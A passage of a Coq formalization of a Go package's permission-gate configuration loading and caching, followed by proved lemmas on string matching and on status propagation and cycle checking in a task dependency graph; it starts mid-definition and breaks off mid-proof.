    (mkResearchConfig false false [] [] [])
    (mkContextConfig false false 0 false)
    (mkQualityConfig false "" false false 0).

Definition isEmpty (l : list string) : bool :=
  match l with [] => true | _ :: _ => false end.

Definition mergeGatesDefaults (cfg : GatesConfig) : GatesConfig :=
  let defaults := getDefaultGatesConfig in
  let cfg :=
    if isEmpty (ReadBlockedPaths (Read cfg)) then
      mkGatesConfig (Schema cfg) (Description cfg) (Updated cfg)
        (mkReadConfig (ReadEnabled (Read cfg))
                      (ReadBlockedPaths (Read defaults))
                      (ReadBlockedExtensions (Read cfg))
                      (ReadWarnExtensions (Read cfg))
                      (ReadWarnPatterns (Read cfg)))
        (Bash cfg) (Write cfg) (Enforcer cfg) (Intent cfg) (Research cfg)
        (Context cfg) (Quality cfg)
    else cfg in
  let cfg :=
    if isEmpty (BashBlockedCommands (Bash cfg)) then
      mkGatesConfig (Schema cfg) (Description cfg) (Updated cfg) (Read cfg)
        (mkBashConfig (BashEnabled (Bash cfg))
                      (BashBlockedCommands (Bash defaults))
                      (BashBlockedPatterns (Bash cfg))
                      (BashWarnCommands (Bash cfg)))
        (Write cfg) (Enforcer cfg) (Intent cfg) (Research cfg)
        (Context cfg) (Quality cfg)
    else cfg in
  if isEmpty (WriteBlockedPaths (Write cfg)) then
    mkGatesConfig (Schema cfg) (Description cfg) (Updated cfg) (Read cfg)
      (Bash cfg)
      (mkWriteConfig (WriteEnabled (Write cfg))
                     (WriteBlockedPaths (Write defaults))
                     (WriteProtectedFiles (Write cfg))
                     (WriteSecretPatterns (Write cfg)))
      (Enforcer cfg) (Intent cfg) (Research cfg) (Context cfg) (Quality cfg)
  else cfg.

(** What [os.ReadFile] and [json.Unmarshal] make of the file. *)
Inductive FileRead :=
| ReadFailed
| ParseFailed
| Parsed (cfg : GatesConfig).

Definition loadGatesConfigFromFile (file : FileRead) : GatesConfig :=
  match file with
  | ReadFailed => getDefaultGatesConfig
  | ParseFailed => getDefaultGatesConfig
  | Parsed cfg => mergeGatesDefaults cfg
  end.

(** The checks, on the configuration that [LoadGatesConfig] returned. *)
Definition IsBlockedExtension (cfg : GatesConfig) (path : string) : bool :=
  if negb (ReadEnabled (Read cfg)) then false
  else existsb (fun ext => HasSuffix (ToLower path) (ToLower ext))
               (ReadBlockedExtensions (Read cfg)).

Definition IsBlockedCommand (cfg : GatesConfig) (cmd : string) : bool :=
  if negb (BashEnabled (Bash cfg)) then false
  else existsb (fun blocked => Contains (ToLower cmd) (ToLower blocked))
               (BashBlockedCommands (Bash cfg)).

(** The document [{"read": {"enabled": true}}] as decoded. *)
Definition readEnabledOnly : GatesConfig :=
  mkGatesConfig "" "" ""
    (mkReadConfig true [] [] [] [])
    (mkBashConfig false [] [] [])
    (mkWriteConfig false [] [] [])
    (mkEnforcerConfig false [] false)
    (mkIntentConfig false ∅ [])
    (mkResearchConfig false false [] [] [])
    (mkContextConfig false false 0 false)
    (mkQualityConfig false "" false false 0).

Definition IsBlockedPath (cfg : GatesConfig) (path : string) : bool :=
  if negb (ReadEnabled (Read cfg)) then false
  else existsb (fun blocked => Contains (ToLower path) (ToLower blocked))
               (ReadBlockedPaths (Read cfg)).

Definition IsWarnPath (cfg : GatesConfig) (path : string) : bool :=
  (existsb (fun ext => HasSuffix (ToLower path) (ToLower ext))
           (ReadWarnExtensions (Read cfg))
   || existsb (fun pattern => Contains (ToLower path) (ToLower pattern))
              (ReadWarnPatterns (Read cfg)))%bool.

Definition IsBlockedWritePath (cfg : GatesConfig) (path : string) : bool :=
  if negb (WriteEnabled (Write cfg)) then false
  else existsb (fun blocked => HasPrefix path blocked)
               (WriteBlockedPaths (Write cfg)).

(** The package variables [gatesConfig] and [gatesConfigTime]: the cached
    configuration, [None] for the nil pointer, and the time of the last
    read of the file, in nanoseconds. *)
Record Cache := mkCache {
  gatesConfig : option GatesConfig;
  gatesConfigTime : Z
}.

(** [time.Since(t)] at the clock reading [now]; a [time.Duration] is a
    signed 64-bit number of nanoseconds and the subtraction saturates. *)
Definition maxDuration : Z := 2 ^ 63 - 1.
Definition minDuration : Z := - 2 ^ 63.

Definition since (now t : Z) : Z := Z.max minDuration (Z.min maxDuration (now - t)).

(** [gatesConfig != nil && time.Since(gatesConfigTime) < CacheTTL] *)
Definition cached (CacheTTL now : Z) (c : Cache) : option GatesConfig :=
  match gatesConfig c with
  | Some cfg => if since now (gatesConfigTime c) <? CacheTTL then Some cfg else None
  | None => None
  end.

(** [CacheTTL] is a constant of another file of the package. [now1],
    [now2] and [now3] are the clock readings of the two calls of
    [time.Since] and of the call of [time.Now]; [file] is what the file
    holds when it is read. One goroutine: the locks have no effect. *)
Definition LoadGatesConfig (CacheTTL now1 now2 now3 : Z) (file : FileRead)
    (c : Cache) : GatesConfig * Cache :=
  match cached CacheTTL now1 c with
  | Some cfg => (cfg, c)
  | None =>
      match cached CacheTTL now2 c with
      | Some cfg => (cfg, c)
      | None =>
          let cfg := loadGatesConfigFromFile file in
          (cfg, mkCache (Some cfg) now3)
      end
  end.

(** [time.Time{}], the first instant of the year 1. *)
Definition zeroTime : Z := -62135596800 * 1000000000.

Definition ReloadGatesConfig (CacheTTL now1 now2 now3 : Z) (file : FileRead)
    (c : Cache) : GatesConfig * Cache :=
  LoadGatesConfig CacheTTL now1 now2 now3 file (mkCache None zeroTime).

End Config.

(** * Properties *)

(** An invariant that every iteration preserves holds after the loop, and
    the loop returns when every iteration does. *)
Lemma forEach_invariant {St A : Type} (f : St -> A -> option St)
    (Inv : St -> Prop) (l : list A) :
  (forall s a, a ∈ l -> Inv s -> exists s', f s a = Some s' /\ Inv s') ->
  forall s, Inv s -> exists s', forEach f s l = Some s' /\ Inv s'.
Proof.
  induction l as [|a l IH]; intros Hstep s Hs; simpl.
  - eauto.
  - destruct (Hstep s a) as (s1 & -> & Hs1); [left | done |].
    apply IH; [|done].
    intros s2 b Hb. apply Hstep. by right.
Qed.

(** ** Strings *)

Module StringsTheory.
Import GoStrings.

Lemma append_cons (c : ascii) (a b : string) : String c a ++ b = String c (a ++ b).
Proof. reflexivity. Qed.

Lemma append_nil_l (b : string) : "" ++ b = b.
Proof. reflexivity. Qed.

Lemma append_nil_r (s : string) : s ++ "" = s.
Proof.
  induction s as [|c s IH]; [done|]. by rewrite append_cons, IH.
Qed.

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ b ++ c.
Proof.
  induction a as [|x a IH]; [done|]. by rewrite !append_cons, IH.
Qed.

Lemma length_append (a b : string) :
  String.length (a ++ b) = (String.length a + String.length b)%nat.
Proof.
  induction a as [|x a IH]; [done|]. rewrite append_cons. simpl. by rewrite IH.
Qed.

Lemma prefix_true (p s : string) :
  String.prefix p s = true <-> exists t, s = p ++ t.
Proof.
  revert s. induction p as [|c p IH]; intros s.
  - split; [intros _; by exists s|]. intros _. by destruct s.
  - destruct s as [|d s]; simpl; [split; [done | by intros (t & ?)]|].
    destruct (Ascii.ascii_dec c d) as [->|Hne].
    + rewrite IH. split; intros (t & Ht); exists t.
      * by rewrite append_cons, Ht.
      * rewrite append_cons in Ht. congruence.
    + split; [done|]. intros (t & Ht). rewrite append_cons in Ht. congruence.
Qed.

Lemma Contains_cons (c : ascii) (s p : string) :
  Contains (String c s) p = (String.prefix p (String c s) || Contains s p)%bool.
Proof. cbn [Contains]. by destruct (String.prefix p (String c s)). Qed.

Lemma Contains_nil (p : string) : Contains "" p = String.prefix p "".
Proof. cbn [Contains]. by destruct (String.prefix p ""). Qed.

(** [Contains s p] holds exactly when [p] occurs in [s]. *)
Lemma Contains_true (s p : string) :
  Contains s p = true <-> exists a b, s = a ++ p ++ b.
Proof.
  split.
  - induction s as [|c s IH].
    + rewrite Contains_nil. intros (t & ->)%prefix_true. by exists "", t.
    + rewrite Contains_cons. intros [(t & Ht)%prefix_true | H]%orb_true_iff.
      * by exists "", t.
      * destruct (IH H) as (a & b & ->). by exists (String c a), b.
  - intros (a & b & ->). induction a as [|c a IH].
    + rewrite append_nil_l. destruct (p ++ b) eqn:E.
      * rewrite Contains_nil. apply prefix_true. by exists b.
      * rewrite Contains_cons. apply orb_true_iff. left.
        apply prefix_true. by exists b.
    + rewrite append_cons, Contains_cons, IH. apply orb_true_r.
Qed.

Lemma Contains_trans (s p q : string) :
  Contains s p = true -> Contains p q = true -> Contains s q = true.
Proof.
  rewrite !Contains_true. intros (a & b & ->) (c & d & ->).
  exists (a ++ c), (d ++ b). by rewrite !append_assoc.
Qed.

Lemma Contains_refl (s : string) : Contains s s = true.
Proof. apply Contains_true. exists "", "". by rewrite append_nil_l, append_nil_r. Qed.

Lemma lowerByte_idem (c : ascii) : lowerByte (lowerByte c) = lowerByte c.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma ToLower_idem (s : string) : ToLower (ToLower s) = ToLower s.
Proof.
  induction s as [|c s IH]; simpl; [done|]. by rewrite lowerByte_idem, IH.
Qed.

Lemma ToLower_length (s : string) : String.length (ToLower s) = String.length s.
Proof. induction s as [|c s IH]; simpl; [done|]. by rewrite IH. Qed.

(** A byte of a lowered string is a lowered byte. *)
Lemma ToLower_byte (s a b : string) (c : ascii) :
  ToLower s = a ++ String c b -> exists c', c = lowerByte c'.
Proof.
  revert s. induction a as [|x a IH]; intros [|y s];
    rewrite ?append_nil_l, ?append_cons; simpl; try done.
  - intros [= <- _]. by exists y.
  - intros [= _ H]. by apply (IH s).
Qed.

(** No byte is lowered to an upper-case letter. *)
Lemma lowerByte_not_upper (c : ascii) :
  (Nat.leb 65 (nat_of_ascii (lowerByte c))
   && Nat.leb (nat_of_ascii (lowerByte c)) 90)%bool = false.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma substring_0_all (b : string) : substring 0 (String.length b) b = b.
Proof. induction b as [|c b IH]; [done|]. simpl. by rewrite IH. Qed.

Lemma substring_skip (a b : string) :
  substring (String.length a) (String.length b) (a ++ b) = b.
Proof.
  induction a as [|c a IH]; [apply substring_0_all|].
  rewrite append_cons. simpl. exact IH.
Qed.

Lemma substring_split (k : nat) (s : string) :
  (k <= String.length s)%nat ->
  s = substring 0 k s ++ substring k (String.length s - k) s.
Proof.
  revert s. induction k as [|k IH]; intros s Hk.
  - rewrite Nat.sub_0_r, substring_0_all. by destruct s.
  - destruct s as [|c s]; simpl in Hk; [lia|].
    simpl. rewrite append_cons. f_equal. apply IH. lia.
Qed.

Lemma HasSuffix_true (s suffix : string) :
  HasSuffix s suffix = true <-> exists a, s = a ++ suffix.
Proof.
  unfold HasSuffix. rewrite andb_true_iff, Nat.leb_le, String.eqb_eq. split.
  - intros [Hle Hs].
    exists (substring 0 (String.length s - String.length suffix) s).
    pose proof (substring_split (String.length s - String.length suffix) s
                  ltac:(lia)) as H.
    replace (String.length s - (String.length s - String.length suffix))%nat
      with (String.length suffix) in H by lia.
    by rewrite Hs in H.
  - intros (a & ->). rewrite length_append. split; [lia|].
    replace (String.length a + String.length suffix - String.length suffix)%nat
      with (String.length a) by lia.
    apply substring_skip.
Qed.

Lemma append_tail_inj (a b x y : string) :
  a ++ x = b ++ y -> String.length x = String.length y -> x = y.
Proof.
  revert b. induction a as [|c a IH]; intros [|d b] H Hl.
  - done.
  - rewrite append_nil_l in H. subst x.
    rewrite length_append in Hl. simpl in Hl. lia.
  - rewrite append_nil_l in H. subst y.
    rewrite length_append in Hl. simpl in Hl. lia.
  - rewrite !append_cons in H. injection H as _ H. by apply (IH b).
Qed.

End StringsTheory.

Module DagTheory.
Import Dag.
Local Open Scope list_scope.

(** *** Records and lookups *)

Lemma IsTerminal_true (st : NodeStatus) :
  IsTerminal st = true <->
  st = StatusDone \/ st = StatusFailed \/ st = StatusSkipped.
Proof.
  unfold IsTerminal. rewrite !orb_true_iff, !bool_decide_eq_true. tauto.
Qed.

Lemma withStatus_same (n : Node) : withStatus (Status n) n = n.
Proof. by destruct n. Qed.

Lemma withNodes_same (s : DAGState) : withNodes (Nodes s) s = s.
Proof. by destruct s. Qed.

Lemma lookup_updNode (s : DAGState) id f x :
  Nodes (updNode id f s) !! x =
  if decide (id = x) then f <$> Nodes s !! x else Nodes s !! x.
Proof.
  unfold updNode; simpl. rewrite lookup_alter.
  by case_decide; subst.
Qed.

Lemma updNode_same (s : DAGState) id f n :
  Nodes s !! id = Some n -> f n = n -> updNode id f s = s.
Proof.
  intros Hn Hf. unfold updNode.
  rewrite alter_id; [apply withNodes_same|].
  intros x Hx. congruence.
Qed.

Lemma statusOf_Some (s : DAGState) id st :
  statusOf s id = Some st <-> exists n, Nodes s !! id = Some n /\ Status n = st.
Proof.
  unfold statusOf. destruct (Nodes s !! id) as [n|]; simpl; split.
  - intros [= <-]. eauto.
  - intros (n' & [= <-] & <-). done.
  - done.
  - by intros (n' & ? & _).
Qed.

Lemma hasPathLoop_post (s : DAGState) (to : string)
    (step : string -> gset string -> option (bool * gset string)) :
  (forall b v r, step b v = Some r ->
     hasPathPost s to v r (blocksPath s b to) (fun v' => b ∈ v')) ->
  forall blocks v r, hasPathLoop step blocks v = Some r ->
    hasPathPost s to v r (exists b, b ∈ blocks /\ blocksPath s b to)
                (fun v' => forall b, b ∈ blocks -> b ∈ v').
Proof.
  intros Hstep. induction blocks as [|b rest IH]; intros v r; simpl.
  - intros [= <-]. unfold hasPathPost; simpl.
    repeat split; [done | by intros ? ?%elem_of_nil | set_solver | done].
  - destruct (step b v) as [[[] v1]|] eqn:Eb; [| |done].
    + intros [= <-]. apply Hstep in Eb as [Hsub Hp]; simpl in *.
      split; [done|]. simpl. exists b. split; [left | done].
    + intros Hrest. apply Hstep in Eb as (Hsub & Hb & Hto & Hcl); simpl in *.
      apply IH in Hrest as [Hsub' Hr]. split; [set_solver|].
      destruct (r.1); [destruct Hr as (b' & ? & ?); exists b'; split; [by right|done] |].
      destruct Hr as (Hall & Hto' & Hcl').
      split; [|split].
      * intros b' [->|Hin]%elem_of_cons; [set_solver | by apply Hall].
      * set_solver.
      * intros x y Hx Hnv He.
        destruct (decide (x ∈ v1)) as [Hx1|Hx1]; [|by eapply Hcl'].
        apply Hsub'. by eapply Hcl.
Qed.

Lemma hasPath_post (s : DAGState) (to : string) :
  forall fuel from v r, hasPath fuel s from to v = Some r ->
    hasPathPost s to v r (blocksPath s from to) (fun v' => from ∈ v').
Proof.
  induction fuel as [|fuel IH]; intros from v r; simpl; [done|].
  case_bool_decide as Heq.
  { intros [= <-]. split; simpl; [done|]. subst. apply rtc_refl. }
  case_bool_decide as Hvis.
  { intros [= <-]. split; simpl; [done|]. repeat split; [done | set_solver | done]. }
  destruct (Nodes s !! from) as [node|] eqn:Hnode.
  - intros Hloop.
    apply (hasPathLoop_post s to _ (fun b v r => IH b v r)) in Hloop as [Hsub Hr].
    split; [set_solver|].
    destruct (r.1).
    + destruct Hr as (b & Hb & Hp). eapply rtc_l; [|exact Hp]. by exists node.
    + destruct Hr as (Hall & Hto & Hcl). split; [set_solver|]. split; [set_solver|].
      intros x y Hx Hnv He.
      destruct (decide (x = from)) as [->|Hne].
      * destruct He as (n & Hn & Hy). rewrite Hnode in Hn. injection Hn as <-.
        by apply Hall.
      * eapply Hcl; [done | set_solver | done].
  - intros [= <-]. split; simpl; [set_solver|].
    split; [set_solver|]. split; [set_solver|].
    intros x y Hx Hnv (n & Hn & _).
    assert (x = from) as -> by set_solver. congruence.
Qed.

(** A set that is closed under [Blocks] contains everything reachable from
    its members. *)
Lemma blocksPath_closed (s : DAGState) (V : gset string) x y :
  (forall a b, a ∈ V -> blocksEdge s a b -> b ∈ V) ->
  blocksPath s x y -> x ∈ V -> y ∈ V.
Proof. intros Hcl Hp. induction Hp; eauto. Qed.

Lemma hasPath_true (s : DAGState) fuel from to v v' :
  hasPath fuel s from to v = Some (true, v') -> blocksPath s from to.
Proof. intros H. by apply hasPath_post in H as [_ H]. Qed.

Lemma hasPath_false (s : DAGState) fuel from to v' :
  hasPath fuel s from to ∅ = Some (false, v') -> ~ blocksPath s from to.
Proof.
  intros H Hp. apply hasPath_post in H as (_ & Hfrom & Hto & Hcl); simpl in *.
  assert (to ∈ v'); [|set_solver].
  eapply blocksPath_closed; [|exact Hp|exact Hfrom].
  intros a b Ha. apply Hcl; set_solver.
Qed.

Lemma unmarked_mono (s : DAGState) (v v' : gset string) :
  v ⊆ v' -> (unmarked s v' <= unmarked s v)%nat.
Proof. intros H. apply subseteq_size. set_solver. Qed.

Lemma unmarked_mark (s : DAGState) (v : gset string) x :
  x ∈ dom (Nodes s) -> x ∉ v ->
  (unmarked s ({[x]} ∪ v) < unmarked s v)%nat.
Proof. intros Hx Hv. apply subset_size. set_solver. Qed.

Lemma hasPathLoop_returns (s : DAGState) (to : string)
    (step : string -> gset string -> option (bool * gset string)) (bound : nat) :
  (forall b v, (unmarked s v <= bound)%nat ->
     exists r, step b v = Some r /\ v ⊆ r.2) ->
  forall blocks v, (unmarked s v <= bound)%nat ->
    exists r, hasPathLoop step blocks v = Some r.
Proof.
  intros Hstep. induction blocks as [|b rest IH]; intros v Hv; simpl; [eauto|].
  destruct (Hstep b v Hv) as ([[] v1] & -> & Hsub); [simpl; eauto|].
  apply IH. simpl in Hsub. pose proof (unmarked_mono s v v1 Hsub) as H. lia.
Qed.

Lemma hasPath_returns (s : DAGState) (to : string) :
  forall fuel from v, (unmarked s v < fuel)%nat ->
    exists r, hasPath fuel s from to v = Some r /\ v ⊆ r.2.
Proof.
  induction fuel as [|fuel IH]; intros from v Hfuel; [lia|].
  assert (Hsub : forall r, hasPath (S fuel) s from to v = Some r -> v ⊆ r.2).
  { intros r Hr. by apply hasPath_post in Hr as [? _]. }
  destruct (hasPath (S fuel) s from to v) as [r|] eqn:E; [eauto|].
  exfalso. simpl in E.
  case_bool_decide; [done|]. case_bool_decide; [done|].
  destruct (Nodes s !! from) as [node|] eqn:Hnode; [|done].
  assert (from ∈ dom (Nodes s)) as Hdom by (apply elem_of_dom; eauto).
  pose proof (unmarked_mark s v from Hdom ltac:(done)) as Hlt.
  destruct (hasPathLoop_returns s to (fun b v => hasPath fuel s b to v) (fuel - 1)%nat)
    with (blocks := Blocks node) (v := {[from]} ∪ v) as [r Hr]; [|lia|congruence].
  intros b v1 Hv1. apply IH. lia.
Qed.

Lemma hasPath_top_returns (s : DAGState) from to :
  exists r, hasPath (hasPathFuel s) s from to ∅ = Some r.
Proof.
  destruct (hasPath_returns s to (hasPathFuel s) from ∅) as (r & Hr & _); [|eauto].
  unfold unmarked, hasPathFuel. rewrite difference_empty_L, size_dom. lia.
Qed.

(** The cycle check of [AddEdge] decides reachability. *)
Lemma hasPath_decides (s : DAGState) from to :
  exists b v, hasPath (hasPathFuel s) s from to ∅ = Some (b, v) /\
              (b = true <-> blocksPath s from to).
Proof.
  destruct (hasPath_top_returns s from to) as [[b v] Hr].
  exists b, v. split; [done|]. destruct b.
  - split; [intros _; by eapply hasPath_true | done].
  - split; [done | intros Hp; by apply hasPath_false in Hr].
Qed.


(** *** Steps that only change statuses *)

Lemma sameGraph_refl s : sameGraph s s.
Proof. by intros id. Qed.

Lemma sameGraph_trans s1 s2 s3 :
  sameGraph s1 s2 -> sameGraph s2 s3 -> sameGraph s1 s3.
Proof.
  intros H12 H23 id. destruct (H12 id) as [<- <-]. apply H23.
Qed.

Lemma sameGraph_blocksEdge s s' x y :
  sameGraph s s' -> blocksEdge s x y <-> blocksEdge s' x y.
Proof.
  intros Hg. destruct (Hg x) as [Hb _]. unfold blocksEdge.
  destruct (Nodes s !! x) as [n|], (Nodes s' !! x) as [n'|]; simpl in Hb;
    try discriminate; [|naive_solver].
  injection Hb as Hb.
  split; intros (m & [= <-] & Hy); eexists; split; eauto; congruence.
Qed.

Lemma sameGraph_updNode_status s id st : sameGraph s (updNode id (withStatus st) s).
Proof.
  intros x. rewrite lookup_updNode. case_decide; [|done].
  by destruct (Nodes s !! x).
Qed.

Lemma statusOf_updNode_status s id st x :
  statusOf (updNode id (withStatus st) s) x =
  if decide (id = x) then (fun _ => st) <$> Nodes s !! x else statusOf s x.
Proof.
  unfold statusOf. rewrite lookup_updNode. case_decide; [|done].
  by destruct (Nodes s !! x).
Qed.

Lemma nonTerminalAt_statusOf s x :
  nonTerminalAt s x <-> exists st, statusOf s x = Some st /\ IsTerminal st = false.
Proof.
  unfold nonTerminalAt. split.
  - intros (n & Hn & Ht). exists (Status n). split; [|done].
    apply statusOf_Some; eauto.
  - intros (st & (n & Hn & <-)%statusOf_Some & Ht). eauto.
Qed.

Lemma terminalAt_statusOf s x :
  terminalAt s x <-> forall st, statusOf s x = Some st -> IsTerminal st = true.
Proof.
  unfold terminalAt. split.
  - intros H st (n & Hn & <-)%statusOf_Some. eauto.
  - intros H n Hn. apply H, statusOf_Some; eauto.
Qed.

Lemma promotes_refl tgt cond s : promotes tgt cond s s.
Proof. split; [apply sameGraph_refl | by left]. Qed.

Lemma promotes_trans tgt cond s1 s2 s3 :
  promotes tgt cond s1 s2 -> promotes tgt cond s2 s3 -> promotes tgt cond s1 s3.
Proof.
  intros [Hg12 H12] [Hg23 H23]. split; [by eapply sameGraph_trans|].
  intros x. destruct (H23 x) as [->|(Hnt & Hst & Hc)]; [apply H12|].
  right. split; [|done].
  destruct (H12 x) as [E|(? & _)]; [|done].
  apply nonTerminalAt_statusOf. apply nonTerminalAt_statusOf in Hnt.
  by rewrite <- E.
Qed.

(** A status that was terminal is left as it is. *)
Lemma promotes_terminal tgt cond s s' x st :
  promotes tgt cond s s' -> statusOf s x = Some st -> IsTerminal st = true ->
  statusOf s' x = Some st.
Proof.
  intros [_ H] Hst Ht. destruct (H x) as [->|(Hnt & _)]; [done|].
  apply nonTerminalAt_statusOf in Hnt as (st' & E & Hf). congruence.
Qed.

Lemma promotes_terminalAt tgt cond s s' x :
  promotes tgt cond s s' -> IsTerminal tgt = true ->
  terminalAt s x -> terminalAt s' x.
Proof.
  rewrite !terminalAt_statusOf. intros [_ H] Htgt Hx st Hst.
  destruct (H x) as [E|(_ & E & _)]; [apply Hx; congruence | congruence].
Qed.

Lemma promotes_cond tgt (cond cond' : string -> Prop) s s' :
  (forall x, cond x -> cond' x) ->
  promotes tgt cond s s' -> promotes tgt cond' s s'.
Proof.
  intros Hc [Hg H]. split; [done|].
  intros x. destruct (H x) as [?|(? & ? & ?)]; [by left | right; eauto].
Qed.

(** Which nodes are done does not change when the new status is not
    done. *)
Lemma promotes_done tgt cond s s' x :
  tgt <> StatusDone -> promotes tgt cond s s' ->
  statusOf s' x = Some StatusDone <-> statusOf s x = Some StatusDone.
Proof.
  intros Htgt Hp. split.
  - destruct Hp as [_ H]. destruct (H x) as [->|(_ & -> & _)]; [done|congruence].
  - intros Hx. by eapply promotes_terminal.
Qed.

Lemma promotes_depsDoneAt tgt cond s s' x :
  tgt <> StatusDone -> promotes tgt cond s s' ->
  depsDoneAt s' x <-> depsDoneAt s x.
Proof.
  intros Htgt Hp. pose proof Hp as [Hg _]. destruct (Hg x) as [_ Hd].
  unfold depsDoneAt.
  destruct (Nodes s !! x) as [n|], (Nodes s' !! x) as [n'|]; simpl in Hd;
    try discriminate; [|naive_solver].
  injection Hd as Hd. split; intros H m d [= <-] Hin.
  - rewrite <- (promotes_done tgt cond s s' d Htgt Hp).
    eapply H; [done|]. by rewrite Hd.
  - rewrite (promotes_done tgt cond s s' d Htgt Hp).
    eapply H; [done|]. by rewrite <- Hd.
Qed.

(** *** checkReady *)

Lemma ready_not_done : StatusReady <> StatusDone.
Proof. discriminate. Qed.

Lemma depsAllDone_true s deps :
  depsAllDone s deps = true <->
  forall d, d ∈ deps -> statusOf s d = Some StatusDone.
Proof.
  induction deps as [|d deps IH]; simpl.
  - split; [by intros _ ? ?%elem_of_nil | done].
  - unfold statusOf at 1.
    destruct (Nodes s !! d) as [dep|] eqn:Hd; simpl.
    + destruct (bool_decide (Status dep = StatusDone)) eqn:E.
      * apply bool_decide_eq_true in E. rewrite E. simpl. rewrite IH.
        split.
        -- intros H d' [->|Hin]%elem_of_cons; [|by apply H].
           unfold statusOf. by rewrite Hd, <- E.
        -- intros H d' Hin. apply H. by right.
      * apply bool_decide_eq_false in E.
        assert ((if negb (IsTerminal (Status dep)) then false
                 else if negb false then false else depsAllDone s deps) = false) as ->
          by (by destruct (IsTerminal (Status dep))).
        split; [done|]. intros H.
        specialize (H d ltac:(left)). unfold statusOf in H.
        rewrite Hd in H. simpl in H. congruence.
    + split; [done|]. intros H.
      specialize (H d ltac:(left)). unfold statusOf in H. by rewrite Hd in H.
Qed.

Lemma depsAllDone_depsDoneAt s id n :
  Nodes s !! id = Some n ->
  depsAllDone s (DependsOn n) = true <-> depsDoneAt s id.
Proof.
  intros Hn. rewrite depsAllDone_true. unfold depsDoneAt. split.
  - intros H m d Hm. rewrite Hn in Hm. injection Hm as <-. apply H.
  - intros H d. by apply H.
Qed.

Lemma checkReady_promotes s c :
  promotes StatusReady (depsDoneAt s) s (checkReady s c).
Proof.
  unfold checkReady.
  destruct (Nodes s !! c) as [node|] eqn:Hc; [|apply promotes_refl].
  destruct (IsTerminal (Status node)) eqn:Ht; [apply promotes_refl|].
  destruct (depsAllDone s (DependsOn node)) eqn:Hd; [|apply promotes_refl].
  split; [apply sameGraph_updNode_status|].
  intros x. rewrite statusOf_updNode_status. case_decide; [subst x|by left].
  right. rewrite Hc. split; [by exists node|]. split; [done|].
  by eapply depsAllDone_depsDoneAt.
Qed.

Lemma checkReady_settled s c : settled (checkReady s c) c.
Proof.
  unfold checkReady, settled.
  destruct (Nodes s !! c) as [node|] eqn:Hc.
  - destruct (IsTerminal (Status node)) eqn:Ht.
    { intros (n & Hn & Hf) _. congruence. }
    destruct (depsAllDone s (DependsOn node)) eqn:Hd.
    + intros _ _. rewrite statusOf_updNode_status.
      case_decide; [|done]. by rewrite Hc.
    + intros _ H. eapply depsAllDone_depsDoneAt in H; [|done]. congruence.
  - intros (n & Hn & _). congruence.
Qed.

Lemma settled_promotes s s' c :
  promotes StatusReady (depsDoneAt s) s s' -> settled s c -> settled s' c.
Proof.
  intros Hp Hs Hnt Hd. pose proof Hp as [_ H].
  destruct (H c) as [E|(_ & E & _)]; [|done].
  rewrite E. apply Hs.
  - apply nonTerminalAt_statusOf. apply nonTerminalAt_statusOf in Hnt.
    by rewrite <- E.
  - by apply (promotes_depsDoneAt _ _ _ _ c ready_not_done Hp).
Qed.

Lemma foldl_checkReady s l :
  promotes StatusReady (depsDoneAt s) s (foldl checkReady s l) /\
  forall c, c ∈ l -> settled (foldl checkReady s l) c.
Proof.
  revert s. induction l as [|c l IH]; intros s; simpl.
  - split; [apply promotes_refl | by intros ? ?%elem_of_nil].
  - destruct (IH (checkReady s c)) as [Hp Hall].
    pose proof (checkReady_promotes s c) as Hc.
    assert (Hp' : promotes StatusReady (depsDoneAt s) (checkReady s c)
                           (foldl checkReady (checkReady s c) l)).
    { eapply promotes_cond; [|exact Hp].
      intros x. by apply (promotes_depsDoneAt _ _ _ _ x ready_not_done Hc). }
    split; [by eapply promotes_trans|].
    intros c' [->|Hin]%elem_of_cons; [|by apply Hall].
    eapply settled_promotes; [exact Hp|apply checkReady_settled].
Qed.

Lemma Nodes_refreshStatus s : Nodes (refreshStatus s) = Nodes s.
Proof.
  unfold refreshStatus. destruct (IsComplete s); [|done].
  by destruct (existsb _ _).
Qed.

Lemma statusOf_refreshStatus s x : statusOf (refreshStatus s) x = statusOf s x.
Proof. unfold statusOf. by rewrite Nodes_refreshStatus. Qed.

Lemma checkReady_terminalAt s c : terminalAt s c -> checkReady s c = s.
Proof.
  intros Ht. unfold checkReady.
  destruct (Nodes s !! c) as [cn|] eqn:Hc; [|done].
  by rewrite (Ht cn Hc).
Qed.

Lemma foldl_checkReady_terminal s l :
  (forall c, c ∈ l -> terminalAt s c) -> foldl checkReady s l = s.
Proof.
  induction l as [|c l IH]; intros H; simpl; [done|].
  rewrite checkReady_terminalAt; [|apply H; left].
  apply IH. intros c' Hc'. apply H. by right.
Qed.

Lemma propagateSkip_terminalAt fuel s c :
  terminalAt s c -> propagateSkip (S fuel) s c = Some s.
Proof.
  intros Ht. simpl.
  destruct (Nodes s !! c) as [cn|] eqn:Hc; [|done].
  by rewrite (Ht cn Hc).
Qed.

Lemma forEach_propagateSkip_terminal fuel s l :
  (forall c, c ∈ l -> terminalAt s c) ->
  forEach (propagateSkip (S fuel)) s l = Some s.
Proof.
  induction l as [|c l IH]; intros H; [done|].
  cbn [forEach]. rewrite propagateSkip_terminalAt; [|apply H; left].
  apply IH. intros c' Hc'. apply H. by right.
Qed.

(** *** UpdateNodeStatus with the status the node has *)

(** The call leaves the whole state as it is when the node is terminal and
    already has the status it is given, all its stored children are
    terminal, and the overall status is up to date. *)
Lemma UpdateNodeStatus_terminal_same_noop (s : DAGState) (id : string)
    (node : Node) :
  Nodes s !! id = Some node ->
  IsTerminal (Status node) = true ->
  (forall c, c ∈ Blocks node -> terminalAt s c) ->
  refreshStatus s = s ->
  UpdateNodeStatus s id (Status node) = Some s.
Proof.
  intros Hn Ht Hch Hr.
  unfold UpdateNodeStatus. rewrite Hn.
  rewrite (updNode_same s id _ node Hn (withStatus_same node)).
  rewrite foldl_checkReady_terminal by done.
  assert ((if bool_decide (Status node = StatusDone) then s else s) = s) as ->
    by (by case_bool_decide).
  unfold propagateSkipFuel.
  rewrite forEach_propagateSkip_terminal by done.
  assert ((if bool_decide (Status node = StatusFailed) then Some s else Some s)
          = Some s) as -> by (by case_bool_decide).
  by rewrite Hr.
Qed.

(** *** UpdateNodeStatus with done *)




(** *** propagateSkip *)

Lemma skipClosed_refl s : skipClosed s s.
Proof.
  intros x y (n & Hn & Hf) (m & Hm & Hs)%statusOf_Some _.
